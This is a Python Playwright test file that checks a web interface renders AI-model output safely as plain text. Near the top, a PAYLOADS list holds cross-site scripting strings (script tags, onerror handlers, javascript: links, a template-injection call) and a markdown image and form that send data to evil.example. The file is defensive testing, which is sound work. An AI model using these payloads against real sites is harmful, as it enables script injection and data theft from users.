"""Whatever a model writes is text: nothing runs, nothing is loaded, nothing is hidden.

The fixture ``page`` fails a test on any dialog, policy violation, script error or foreign request.
"""

from collections.abc import AsyncGenerator
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext, Page, Route, expect

from localfusion.engines.sim import SimEngine
from localfusion.types import Delta, Prompt, Usage
from tests.page.recorded import record
from tests.page.visits import answer, ask, card, visit, wait_for_end
from tests.server.system import gateway, served, traced

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "![steal](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    '"><iframe src="javascript:alert(1)"></iframe>',
    "<style>body{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "{{constructor.constructor('alert(1)')()}}",
    "<form action=https://evil.example><button>Go</button></form>",
    "</div></main></body><h1>Owned</h1>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
)
HOSTILE = "\n".join(PAYLOADS)
MEGABYTES = 10


class LoudEngine(SimEngine):
    """Says a line of ten million characters at once, which no script could in good time."""

    async def generate(self, prompt: Prompt) -> AsyncGenerator[Delta, None]:
        self.calls.append(prompt)
        yield Delta(text="x" * (MEGABYTES * 1_000_000))
        yield Delta(finish_reason="stop", usage=Usage(1, 1, calls=1))


@pytest.mark.threat(16)
async def test_markup_of_models_stays_text(page: Page) -> None:
    engines = {name: SimEngine(HOSTILE, name=name, reasoning=HOSTILE) for name in "abcd"}
    async with served(gateway(engines=engines, preset={"options": {}})) as server:
        await visit(page, server)
        await ask(page, HOSTILE)
        await wait_for_end(page)

        for payload in PAYLOADS:
            await expect(answer(page).locator(".is-answer")).to_contain_text(payload)
            await expect(card(page, 2)).to_contain_text(payload)
        made = "main script, main img, main iframe, main style, main svg, main meta"
        await expect(page.locator(made)).to_have_count(0)
        await expect(page.get_by_role("heading", name="Owned")).to_have_count(0)
        assert await page.locator("a:not([href^='#'])").count() == 0


@pytest.mark.threat(16)
async def test_hostile_trace_is_inert(page: Page, tmp_path: Path) -> None:
    engines = {name: SimEngine(HOSTILE, name=name) for name in "abcd"}
    system = gateway(engines=engines, preset={"options": {}})

    async def spoil(route: Route) -> None:
        """Put into the real answer what this server would never say."""
        told = await (await route.fetch()).json()
        for trace in told.get("data", [told]):
            names = ("preset", "policy", "judge", "key", "reason", "request_id")
            trace.update(dict.fromkeys(names, PAYLOADS[1]))
        await route.fulfill(json=told)

    async with traced(tmp_path, system) as server:
        await record(system, HOSTILE)
        await page.route("**/v1/traces**", spoil)
        await visit(page, server, "traces")
        await expect(page.locator("a.trace .what")).to_contain_text("<script>")
        await page.locator("a.trace").click()

        await expect(page.get_by_label("Differences")).to_be_visible()
        await expect(page.locator("section .is-question")).to_contain_text(PAYLOADS[3])
        await expect(page.locator("main script, main img, main iframe")).to_have_count(0)


@pytest.mark.threat(16)
async def test_escapes_and_directions_are_seen(page: Page) -> None:
    text = "\x1b[31mred\x1b[0m\x07 \u202eevil\u2066.exe\x9b1m"
    async with served(gateway(b=SimEngine(text))) as server:
        await visit(page, server)
        await ask(page)
        await wait_for_end(page)

        shown = card(page, 2).locator(".text").last
        names = (f"\u2039U+{code}\u203a" for code in ("202E", "2066", "009B"))
        told = "\u241b[31mred\u241b[0m\u2407 {}evil{}.exe{}1m".format(*names)
        await expect(shown).to_have_text(told)


@pytest.mark.threat(16)
async def test_line_of_ten_megabytes_is_cut_where_one_sees_it(page: Page) -> None:
    async with served(gateway(b=LoudEngine())) as server:
        await visit(page, server)
        await page.get_by_label("Ask", exact=True).select_option("b")
        await ask(page)
        await wait_for_end(page)

        note = answer(page).locator(".cut:visible")
        await expect(note).to_contain_text("6,000 of 10,000,000 characters are shown.")
        await note.get_by_role("button", name="Show 60,000 more").click()
        await expect(note).to_contain_text("66,000 of 10,000,000")
        size = "() => document.body.textContent.length"
        assert await page.evaluate(size) < 80_000
        assert await page.evaluate(FITS)


FITS = "() => document.documentElement.scrollWidth <= document.documentElement.clientWidth"


async def test_character_is_never_cut_in_halves(page: Page) -> None:
    async with served(gateway()) as server:
        await visit(page, server)
        shown = await page.evaluate(
            """async () => {
                const { LongText } = await import('/static/text.js');
                const text = new LongText();
                text.set('x' + '😀'.repeat(9000));
                return text.body.textContent;
            }"""
        )

    assert shown == "x" + "😀" * 2999


@pytest.mark.threat(16)
async def test_browser_refuses_markup_even_if_we_forgot_to(context: BrowserContext) -> None:
    page = await context.new_page()  # not the fixture's, which no violation may happen in
    async with served(gateway()) as server:
        await page.goto(server.url)
        refused = await page.evaluate(
            """() => {
                try { document.body.innerHTML = '<b>x</b>'; return false; }
                catch (error) { return error instanceof TypeError; }
            }"""
        )

    assert refused


async def test_links_cannot_leave_the_page(page: Page) -> None:
    async with served(gateway()) as server:
        await visit(page, server)
        refused = await page.evaluate(
            """async () => {
                const { h } = await import('/static/dom.js');
                try { h('a', { href: 'javascript:alert(1)' }); }
                catch (error) { return error.message; }
            }"""
        )

    assert refused == "links stay in the page"
